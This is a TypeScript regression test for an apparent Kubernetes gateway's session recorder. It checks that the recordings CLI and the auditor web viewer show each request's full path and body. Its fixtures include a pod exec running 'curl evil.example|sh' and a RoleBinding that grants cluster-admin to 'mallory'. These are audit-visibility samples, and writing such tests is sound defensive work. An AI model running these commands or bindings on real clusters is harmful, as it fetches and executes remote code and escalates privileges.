/**
 * Regression (recordings red-team round 10, "the auditor tools show exactly what happened"). A
 * Kubernetes request is recorded with its path (query included) and, for writes, its body; `drawbridge
 * recordings show` printed `create ns=prod rolebindings` with neither, and the viewer's request table
 * the path without the body. So an exec's command (in the query) was missing from `show`, and whom a
 * RoleBinding to cluster-admin bound, or what a ConfigMap's script said, from both: the auditor saw a
 * write and not what it wrote. Both print the path and the recorded body now. Real recorder, directory
 * store, CLI and viewer (fastify) over it.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import Fastify from "fastify";
import { type CliIo, main } from "../../cli/recordings.ts";
import { registerViewer } from "../../gateway/admin/viewer.ts";
import { loadStoreKeys } from "../../gateway/recording/catalog.ts";
import { sessionPrefix } from "../../gateway/recording/format.ts";
import { DirStore } from "../../gateway/recording/store.ts";
import { auditorIdentity, makeRecorder, meta, tempDir } from "./fixtures.ts";

function io() {
	const out: string[] = [];
	const err: string[] = [];
	const cli: CliIo = { env: {}, stdout: (s) => void out.push(s), stderr: (s) => void err.push(s), stderrIsTty: false, sleep: async () => undefined };
	return { cli, out: () => out.join(""), err: () => err.join("") };
}

const EXEC_PATH = "/api/v1/namespaces/prod/pods/web-1/exec?command=sh&command=-c&command=curl%20evil.example%7Csh&container=web&stdin=true";

test("show and the viewer print a Kubernetes request's path and recorded body", async () => {
	const root = await tempDir("kube-detail-store");
	const store = new DirStore(root);
	await store.init();
	const { rec } = await makeRecorder(store, await tempDir("kube-detail-spool"));
	const m = meta({ protocol: "kubernetes", connection: "prod-cluster", target: { user: "lee" } });
	try {
		const s = await rec.openSession(m);
		s.emit({ type: "kube.request", verb: "create", resource: "pods", subresource: "exec", namespace: "prod", name: "web-1", path: EXEC_PATH, decision: "allow", status: 101, body: { command: ["sh", "-c", "curl evil.example|sh"], container: "web" } });
		s.emit({
			type: "kube.request",
			verb: "create",
			resource: "rolebindings",
			namespace: "prod",
			path: "/apis/rbac.authorization.k8s.io/v1/namespaces/prod/rolebindings",
			decision: "allow",
			status: 201,
			body: { kind: "RoleBinding", metadata: { name: "ops" }, roleRef: { kind: "ClusterRole", name: "cluster-admin" }, subjects: [{ kind: "User", name: "mallory" }] },
		});
		await s.close({ reason: "client-closed" });
		await rec.drain(20_000);
	} finally {
		await rec.stop();
	}
	const r = io();
	assert.equal(await main(["show", m.sessionId, "--dir", root], r.cli), 0, r.err());
	const text = r.out();
	assert.ok(text.includes(EXEC_PATH), `the exec's path (its command) is missing from show: ${text}`);
	assert.match(text, /"command":\["sh","-c","curl evil\.example\|sh"\]/);
	assert.match(text, /"subjects":\[\{"kind":"User","name":"mallory"\}\]/, text);

	const identity = auditorIdentity("https://issuer.test");
	const pinned = (await loadStoreKeys(store)).set;
	const app = Fastify();
	await registerViewer(app, { store, auditorGroup: "auditors", authenticate: () => identity, publicKeys: async () => pinned });
	try {
		const html = (await app.inject({ url: `/viewer/session?prefix=${encodeURIComponent(sessionPrefix(m))}`, headers: { authorization: "Bearer x" } })).body;
		assert.match(html, /id="verify">verified</);
		assert.match(html, /mallory/, "whom the RoleBinding bound is missing from the viewer");
		assert.match(html, /cluster-admin/);
	} finally {
		await app.close();
	}
});
